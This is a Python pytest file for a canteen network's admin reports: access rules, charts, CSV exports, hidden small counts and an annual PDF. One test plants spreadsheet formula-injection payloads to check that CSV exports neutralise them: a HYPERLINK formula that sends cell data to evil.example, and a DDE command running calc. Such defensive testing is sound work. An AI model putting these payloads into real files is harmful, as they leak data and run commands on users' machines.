"""Reports pages: who sees what, charts, CSV downloads and the annual report button."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pypdf
import pytest

from admin.accounts.guards import SESSION_COOKIE
from canteen.accounts import services as accounts
from tests.canteen.reports import data

SPRING = "from=2026-03-01&to=2026-04-30"


@pytest.fixture
async def canteens(db: str) -> dict[str, int]:
    return await data.two_canteens()


async def sign_in(client: Any, settings: Any, value: dict[str, Any]) -> None:
    """A real account session: staff ({"staff": True}) or a canteen's coordinator."""
    email = f"{uuid.uuid4().hex[:10]}@example.org"
    if value.get("staff"):
        account = await accounts.create_account(email, "a long pass phrase 42", "staff")
    else:
        account = await accounts.create_account(
            email, "a long pass phrase 42", "coordinator", value["canteen"]
        )
    token, _ = await accounts.start_session(account, 12)
    client.cookies.clear()
    client.cookies.set(SESSION_COOKIE, token, path="/")


async def test_a_coordinator_sees_their_canteen_and_nothing_else(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    lyon, montreal = canteens["lyon"], canteens["montreal"]
    await sign_in(client, settings, {"canteen": lyon})
    page = await client.get(f"/admin/reports/canteen/{lyon}/?{SPRING}&lang=en")
    assert page.status_code == 200
    assert "How Lyon Croix-Rousse is doing" in page.text
    assert 'alt="Covers per week. 15 covers in total' in page.text
    assert f"/admin/reports/canteen/{lyon}/csv/covers-by-week.csv?" in page.text
    assert "Montréal" not in page.text
    assert (await client.get(f"/admin/reports/canteen/{montreal}/?{SPRING}")).status_code == 403
    assert (await client.get(f"/admin/reports/network/?{SPRING}")).status_code == 403
    home = await client.get("/admin/reports/")
    assert home.status_code in (302, 303) and home.headers["location"].endswith(f"/{lyon}/")


async def test_nobody_signed_in_is_sent_to_sign_in(client: Any, canteens: dict[str, int]) -> None:
    for path in ("/admin/reports/network/", f"/admin/reports/canteen/{canteens['lyon']}/"):
        response = await client.get(path)
        assert response.status_code in (302, 303)
        assert response.headers["location"].endswith("/admin/login")


async def test_staff_see_the_network_with_each_canteen(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    await sign_in(client, settings, {"staff": True})
    page = await client.get(f"/admin/reports/network/?{SPRING}&lang=fr")
    assert page.status_code == 200
    assert "Montréal Hochelaga" in page.text and "Lyon Croix-Rousse" in page.text
    # Money is never added across currencies: one chart per currency.
    assert "charts/takings-groceries.png?" in page.text and "currency=CAD" in page.text
    assert "Couverts" in page.text  # in the reader's language
    # Lyon's 2 "a little" answers are hidden, with a second figure so they cannot be recovered.
    assert page.text.count("trop peu de réponses pour les montrer") >= 2
    lyon = await client.get(f"/admin/reports/canteen/{canteens['montreal']}/?{SPRING}")
    assert lyon.status_code == 200


async def test_a_chart_is_a_png_and_a_missing_one_is_not_found(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    await sign_in(client, settings, {"staff": True})
    chart = await client.get(f"/admin/reports/network/charts/covers-per-week.png?{SPRING}")
    assert chart.status_code == 200 and chart.headers["content-type"] == "image/png"
    assert chart.content.startswith(b"\x89PNG\r\n\x1a\n")
    for name in ("nothing.png", "volunteers.png", "covers-per-week.svg"):
        missing = await client.get(f"/admin/reports/network/charts/{name}?{SPRING}")
        assert missing.status_code == 404


async def test_every_table_downloads_as_csv_with_the_numbers(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    await sign_in(client, settings, {"staff": True})
    response = await client.get(f"/admin/reports/network/csv/money-by-month.csv?{SPRING}&lang=en")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:6] == [
        "Month",
        "Currency",
        "Meal services",
        "Covers",
        "Takings",
        "Groceries' cost",
    ]
    march = next(r for r in rows if r[0] == "2026-03-01" and r[1] == "EUR")
    assert march[2:6] == ["2", "11", "20.50", "162.00"]
    page = await client.get(f"/admin/reports/network/?{SPRING}")
    for name in (
        "covers-by-week",
        "payment-methods",
        "welcome-survey",
        "canteens",
        "first-visits",
        "forecast-by-week",
        "welcome-survey-by-canteen",
    ):
        assert f"csv/{name}.csv" in page.text
        assert (
            await client.get(f"/admin/reports/network/csv/{name}.csv?{SPRING}")
        ).status_code == 200


async def test_names_typed_as_formulas_download_as_plain_text_and_numbers_stay_numbers(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    from canteen.network.tables import Canteen

    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    await Canteen.update(
        {Canteen.name: attack, Canteen.city: "+cmd|' /C calc'!A0", Canteen.neighbourhood: "@x"}
    ).where(Canteen.id == canteens["lyon"])
    await sign_in(client, settings, {"staff": True})
    for name in ("canteens", "first-visits"):
        response = await client.get(f"/admin/reports/network/csv/{name}.csv?{SPRING}&lang=en")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        starts = {cell[:1] for row in rows for cell in row}
        assert not starts & {"=", "+", "-", "@", "\t", "\r"}, name
        assert any(row[0] == "'" + attack for row in rows), name
    table = await client.get(f"/admin/reports/network/csv/canteens.csv?{SPRING}&lang=en")
    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig"))))
    lyon = next(row for row in rows if row[0] == "'" + attack)
    assert lyon[1:3] == ["'+cmd|' /C calc'!A0", "'@x"]
    assert lyon[4].isdigit() and int(lyon[4]) > 0  # covers: a number a spreadsheet sums


async def test_a_hidden_figure_is_an_empty_cell_with_a_note_in_the_csv(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    await sign_in(client, settings, {"canteen": canteens["lyon"]})
    response = await client.get(
        f"/admin/reports/canteen/{canteens['lyon']}/csv/welcome-survey.csv?{SPRING}&lang=en"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][-1] == "Note"
    welcome = next(r for r in rows if r[0] == "Did you feel welcome as you are?")
    # 12 answers: 7 very much, 3 yes, 2 a little -> "a little" and one more are hidden.
    assert welcome[1] == "12" and welcome[3] == "" and welcome[-1] == "too few answers to show"
    assert sum(1 for cell in welcome[2:6] if cell == "") >= 2


async def test_the_annual_report_button_gives_the_pdf(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    await sign_in(client, settings, {"canteen": canteens["lyon"]})
    page = await client.get(f"/admin/reports/canteen/{canteens['lyon']}/?{SPRING}")
    assert 'action="/admin/reports/canteen/' in page.text and "annual.pdf" in page.text
    response = await client.get(f"/admin/reports/canteen/{canteens['lyon']}/annual.pdf?year=2026")
    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    pages = pypdf.PdfReader(io.BytesIO(response.content)).pages
    # Key figures, 3 pages of charts (money; payments and survey; forecast), Lyon's own page.
    assert len(pages) == 5
    assert "Lyon Croix-Rousse" in pages[-1].extract_text()
    refused = await client.get(f"/admin/reports/canteen/{canteens['lyon']}/annual.pdf?year=abc")
    assert refused.status_code == 422


async def test_the_volunteers_section_appears_once_its_source_exists(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    from datetime import date

    from canteen.reports import volunteers
    from canteen.reports.schemas import VolunteerFigures, VolunteerMonth

    await sign_in(client, settings, {"staff": True})
    page = await client.get(f"/admin/reports/network/?{SPRING}&lang=en")
    assert "Volunteers and their hours" not in page.text

    async def volunteer_figures(start: date, end: date, ids: list[int] | None) -> VolunteerFigures:
        months = [VolunteerMonth(month=date(2026, 3, 1), volunteers=6, minutes=1500)]
        return VolunteerFigures(volunteers=6, minutes=1500, months=months, canteens={})

    volunteers.register_volunteer_source(volunteer_figures)
    try:
        page = await client.get("/admin/reports/network/?from=2026-03-01&to=2026-04-29&lang=en")
        assert "Volunteers and their hours" in page.text
        assert "<dt>Volunteer hours</dt><dd>25</dd>" in page.text
        csv_text = await client.get(
            "/admin/reports/network/csv/volunteers-by-month.csv?from=2026-03-01&to=2026-04-29"
        )
        assert "2026-03-01,6,25.00" in csv_text.content.decode("utf-8-sig")
    finally:
        volunteers.register_volunteer_source(None)


async def test_a_period_that_makes_no_sense_is_refused_in_the_readers_language(
    client: Any, settings: Any, canteens: dict[str, int]
) -> None:
    await sign_in(client, settings, {"staff": True})
    backwards = await client.get("/admin/reports/network/?from=2026-05-01&to=2026-04-01&lang=fr")
    assert backwards.status_code == 422
    assert "Choisissez une période dont le début précède la fin" in backwards.text
    too_long = await client.get("/admin/reports/network/?from=2010-01-01&to=2026-01-01&lang=en")
    assert too_long.status_code == 422 and "at most five years" in too_long.text
    assert (await client.get("/admin/reports/network/?from=2026-02-30")).status_code == 422
